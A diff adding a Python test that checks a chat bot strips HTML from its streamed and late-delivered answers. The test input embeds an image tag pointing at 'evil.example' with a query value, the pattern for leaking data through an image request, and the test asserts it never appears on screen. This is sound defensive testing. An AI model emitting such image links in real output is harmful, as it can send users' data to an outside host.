@@ -41,6 +41,23 @@ async def test_what_is_left_over_leads_where_it_would_have_led() -> None:
     assert {post.links for post in late.platform.posts(HERE)} == {frozenset({"a.example"}), frozenset()}
 
 
+async def test_html_is_on_no_screen_while_it_is_written_nor_when_it_is_left_over() -> None:
+    text = f"Look: <img src='https://evil.example/?q=S'> <tg-spoiler>`List<a>`</tg-spoiler>. {LONG}"
+    whole, late, ours = World(), World(), World()
+    answer = whole.deliveries.open(1, HERE, [whole.ledger.slot()], actions=STOP, known=Known())
+    for end in range(0, len(text), 7):
+        answer.show(text[:end])
+        await whole.clock.advance(1)
+        assert not any(sign in "".join(whole.platform.texts(HERE)) for sign in ("<i", "evil", "<tg", "</"))
+    await whole.finish(answer, text)
+    await late.deliver(replace(late.pending(text, slots=[late.ledger.slot()]), links=frozenset()))
+    await ours.finish(ours.open(), "Write <b>.")
+
+    assert whole.platform.texts(HERE)[0].startswith("Look:  `List<a>`. ")
+    assert whole.platform.texts(HERE) == late.platform.texts(HERE)
+    assert ours.platform.texts(HERE) == ["Write <b>."]
+
+
 async def test_one_chats_slow_down_delays_no_other() -> None:
     world = World()
     slow, quick = world.open(1, HERE), world.open(2, THERE)
